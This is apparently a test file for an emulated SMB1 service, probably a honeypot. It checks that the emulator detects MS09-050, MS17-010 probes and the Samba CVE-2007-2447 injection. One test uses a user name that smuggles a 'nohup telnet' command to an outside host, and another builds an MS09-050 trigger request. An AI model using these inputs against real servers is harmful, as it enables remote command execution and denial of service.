/** SMB1 over the emulated service, with requests built here: framing, negotiate, logon, pipes, the MS17-010/MS09-050/Samba checks. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { netbiosSessionService, smbService } from '../../../../src/emulator/services/smb/index.ts';
import { TestServiceHost } from '../../../helpers/service-host.ts';
import { fakePipes, le, negotiate, ntlmssp, sessionSetup, smb1Request, splitResponses, statusOf, type SmbMessage } from './smb-test-client.ts';

const peer = { address: '10.0.0.9', port: 50000 };

function open(profile: string) {
  const host = new TestServiceHost(profile);
  const pipes = fakePipes();
  const connection = smbService({ pipes: pipes.opener }).open(host, peer, 445);
  const send = (bytes: Uint8Array): SmbMessage[] => splitResponses(connection.receive(bytes));
  return { host, pipes, connection, send };
}

function u16(message: SmbMessage, offset: number): number {
  return new DataView(message.bytes.buffer, message.bytes.byteOffset, message.bytes.byteLength).getUint16(offset, true);
}

/** negotiate, anonymous NTLMSSP logon, IPC$: returns the uid and tid */
function anonymousIpc(send: (bytes: Uint8Array) => SmbMessage[]) {
  send(negotiate(['NT LM 0.12']));
  const [challenge] = send(sessionSetup(ntlmssp('negotiate')));
  assert.equal(statusOf(challenge), 0xc0000016);
  const uid = u16(challenge, 28);
  const [done] = send(sessionSetup(ntlmssp({ user: '', ntLength: 0 }), { uid }));
  assert.equal(statusOf(done), 0);
  const path = Buffer.from('\\\\10.0.0.2\\IPC$\0', 'utf16le');
  const [tree] = send(smb1Request(0x75, le([1, 0xff], [1, 0], [2, 0], [2, 0x0008], [2, 1]), Buffer.concat([Buffer.alloc(1), path, Buffer.from('?????\0', 'latin1')]), { uid }));
  assert.equal(statusOf(tree), 0);
  return { uid, tid: u16(tree, 24) };
}

function ntCreate(name: string, ids: { uid: number; tid: number }): Uint8Array {
  const fileName = Buffer.from(`${name}\0`, 'utf16le');
  const words = Buffer.concat([le([1, 0xff], [1, 0], [2, 0], [1, 0], [2, fileName.length - 2], [4, 0x16], [4, 0], [4, 0x2019f]), Buffer.alloc(8), le([4, 0], [4, 3], [4, 1], [4, 0x40], [4, 2], [1, 0])]);
  return smb1Request(0xa2, words, Buffer.concat([Buffer.alloc(1), fileName]), ids);
}

describe('SMB1 service', () => {
  it('answers the same whether the request arrives whole or one byte at a time', () => {
    const whole = open('win-7-sp1-x64').send(negotiate(['PC NETWORK PROGRAM 1.0', 'NT LM 0.12']));
    const pieces = open('win-7-sp1-x64');
    const request = negotiate(['PC NETWORK PROGRAM 1.0', 'NT LM 0.12']);
    const responses: SmbMessage[] = [];
    for (const byte of request) responses.push(...pieces.send(Uint8Array.of(byte)));
    assert.equal(responses.length, 1);
    assert.deepEqual(responses[0].bytes, whole[0].bytes);
    assert.equal(u16(whole[0], 33), 1, 'dialect index of NT LM 0.12');
  });

  it('TCP 139 answers a NetBIOS session request with a positive response', () => {
    const host = new TestServiceHost('win-xp-sp3');
    const connection = netbiosSessionService({ pipes: fakePipes().opener }).open(host, peer, 139);
    const request = Buffer.concat([Buffer.from([0x81, 0, 0, 68]), Buffer.alloc(68, 0x41)]);
    assert.deepEqual([...connection.receive(request)], [0x82, 0, 0, 0]);
    const [reply] = splitResponses(connection.receive(negotiate(['NT LM 0.12'])));
    assert.equal(reply.protocol, 'smb1');
  });

  it('an SMB1 negotiate offering SMB 2.??? moves Windows 7 to SMB2, while XP stays on NT LM 0.12', () => {
    const [seven] = open('win-7-sp1-x64').send(negotiate(['NT LM 0.12', 'SMB 2.002', 'SMB 2.???']));
    assert.equal(seven.protocol, 'smb2');
    assert.equal(u16(seven, 64 + 4), 0x02ff);
    const [vista] = open('win-vista-sp1').send(negotiate(['NT LM 0.12', 'SMB 2.002']));
    assert.equal(u16(vista, 64 + 4), 0x0202);
    const [xp] = open('win-xp-sp3').send(negotiate(['NT LM 0.12', 'SMB 2.002', 'SMB 2.???']));
    assert.equal(xp.protocol, 'smb1');
    assert.equal(u16(xp, 33), 0);
  });

  it('MS09-050: Process ID High in an SMB2-offering negotiate is reported; a patched profile still answers', () => {
    const vulnerable = open('win-vista-sp1');
    assert.equal(vulnerable.send(negotiate(['NT LM 0.12', 'SMB 2.002'], { pidHigh: 0x26 })).length, 0);
    assert.ok(vulnerable.connection.closed);
    assert.deepEqual(vulnerable.host.exploits.map((report) => [report.vulnerability, report.vulnerable]), [['MS09-050', true]]);
    assert.equal(vulnerable.host.codeRuns.length, 1);
    const patched = open('win-7-sp1-x64');
    assert.equal(patched.send(negotiate(['NT LM 0.12', 'SMB 2.002'], { pidHigh: 0x26 })).length, 1);
    assert.deepEqual(patched.host.exploits.map((report) => [report.vulnerability, report.vulnerable]), [['MS09-050', false]]);
    assert.equal(patched.host.codeRuns.length, 0);
    const plain = open('win-vista-sp1');
    plain.send(negotiate(['NT LM 0.12', 'SMB 2.002']));
    assert.equal(plain.host.exploits.length, 0, 'Process ID High 0 is an ordinary negotiate');
  });

  it('accepts a null session and refuses a user with a response (STATUS_LOGON_FAILURE)', () => {
    const { send } = open('win-7-sp1-x64');
    anonymousIpc(send);
    const other = open('win-7-sp1-x64');
    other.send(negotiate(['NT LM 0.12']));
    const [challenge] = other.send(sessionSetup(ntlmssp('negotiate')));
    const [refused] = other.send(sessionSetup(ntlmssp({ user: 'Administrator', ntLength: 24 }), { uid: u16(challenge, 28) }));
    assert.equal(statusOf(refused), 0xc000006d);
    const path = Buffer.from('\\\\10.0.0.2\\IPC$\0', 'utf16le');
    const [tree] = other.send(smb1Request(0x75, le([1, 0xff], [1, 0], [2, 0], [2, 0], [2, 1]), Buffer.concat([Buffer.alloc(1), path, Buffer.from('?????\0', 'latin1')])));
    assert.notEqual(statusOf(tree), 0, 'no tree without a logon');
  });

  it('carries named-pipe bytes through the PipeOpener: WRITE_ANDX/READ_ANDX and TransactNmPipe', () => {
    const { send, pipes } = open('win-7-sp1-x64');
    const ids = anonymousIpc(send);
    const [created] = send(ntCreate('\\srvsvc', ids));
    assert.equal(statusOf(created), 0);
    assert.deepEqual(pipes.opened, ['srvsvc']);
    const fid = u16(created, 32 + 1 + 5);
    const request = Buffer.from('rpc-bind-bytes');
    const writeWords = le([1, 0xff], [1, 0], [2, 0], [2, fid], [4, 0], [4, 0], [2, 0x0008], [2, request.length], [2, 0], [2, request.length], [2, 64], [4, 0]);
    const [written] = send(smb1Request(0x2f, writeWords, Buffer.concat([Buffer.alloc(1), request]), ids));
    assert.equal(statusOf(written), 0);
    assert.deepEqual(Buffer.from(pipes.written[0]).toString(), 'rpc-bind-bytes');
    const [read] = send(smb1Request(0x2e, le([1, 0xff], [1, 0], [2, 0], [2, fid], [4, 0], [2, 1024], [2, 0], [4, 0], [2, 0], [4, 0]), new Uint8Array(0), ids));
    assert.equal(statusOf(read), 0);
    const dataLength = u16(read, 33 + 10);
    const dataOffset = u16(read, 33 + 12);
    assert.equal(dataLength, 16);
    assert.equal(read.bytes[dataOffset], 5, 'the fake pipe answer');
    const transWords = le([2, 0], [2, 4], [2, 0], [2, 1024], [1, 0], [1, 0], [2, 0], [4, 0], [2, 0], [2, 0], [2, 0], [2, 4], [2, 32 + 1 + 32 + 2 + 7], [1, 2], [1, 0], [2, 0x26], [2, fid]);
    const [transacted] = send(smb1Request(0x25, transWords, Buffer.concat([Buffer.from('\\PIPE\\\0', 'latin1'), Buffer.from('ping')]), { ...ids, flags2: 0x4807 }));
    assert.equal(statusOf(transacted), 0);
    assert.equal(u16(transacted, 33 + 12), 16, 'DataCount of the pipe answer');
  });

  it('answers the MS17-010 scanners\' PeekNmPipe on FID 0 as the profile would, without an exploit report', () => {
    for (const [profile, status] of [['win-7-sp1-x64', 0xc0000205], ['win-7-sp1-x64-ms17-010', 0xc0000008]] as const) {
      const { send, host } = open(profile);
      const ids = anonymousIpc(send);
      const words = le([2, 0], [2, 0], [2, 0xffff], [2, 0xffff], [1, 0], [1, 0], [2, 0], [4, 0], [2, 0], [2, 0], [2, 0x4a], [2, 0], [2, 0x4a], [1, 2], [1, 0], [2, 0x23], [2, 0]);
      const [reply] = send(smb1Request(0x25, words, Buffer.from('\\PIPE\\\0', 'latin1'), { ...ids, flags2: 0x4807 }));
      assert.equal(statusOf(reply), status, profile);
      assert.equal(host.exploits.length, 0);
    }
  });

  it('CVE-2007-2447: a Samba 3.0.20 user name with command substitution reaches sh; 3.6 and Windows only record or ignore it', () => {
    const account = Buffer.from('/=`nohup telnet 10.9.9.9 4444`\0', 'latin1');
    const plainLogon = (passwordLength = 1) =>
      smb1Request(
        0x73,
        le([1, 0xff], [1, 0], [2, 0], [2, 16644], [2, 50], [2, 0], [4, 0], [2, passwordLength], [2, 0], [4, 0], [4, 0]),
        Buffer.concat([Buffer.alloc(passwordLength, passwordLength > 1 ? 0x41 : 0), account, Buffer.from('WORKGROUP\0', 'latin1')]),
        { flags2: 0x4001 },
      );
    const samba = open('linux-samba-3.x');
    samba.send(negotiate(['NT LM 0.12']));
    samba.send(plainLogon());
    assert.deepEqual(samba.host.exploits.map((report) => [report.vulnerability, report.vulnerable]), [['CVE-2007-2447', true]]);
    assert.deepEqual(samba.host.commands, [{ shell: 'sh', commandLine: 'nohup telnet 10.9.9.9 4444', origin: 'smb' }]);
    const fixed = open('linux-samba-3.6');
    fixed.send(negotiate(['NT LM 0.12']));
    fixed.send(plainLogon());
    assert.deepEqual(fixed.host.exploits.map((report) => report.vulnerable), [false]);
    assert.equal(fixed.host.commands.length, 0);
    const windows = open('win-xp-sp3');
    windows.send(negotiate(['NT LM 0.12']));
    const [refused] = windows.send(plainLogon(24));
    assert.equal(statusOf(refused), 0xc000006d);
    assert.equal(windows.host.exploits.length, 0);
  });

  it('answers an unknown command with STATUS_NOT_SUPPORTED and counts it', () => {
    const { send, host } = open('win-7-sp1-x64');
    anonymousIpc(send);
    const [reply] = send(smb1Request(0x99, new Uint8Array(0), new Uint8Array(0)));
    assert.equal(statusOf(reply), 0xc00000bb);
    assert.ok(host.anomalies.includes('smb.command_unsupported'));
  });
});
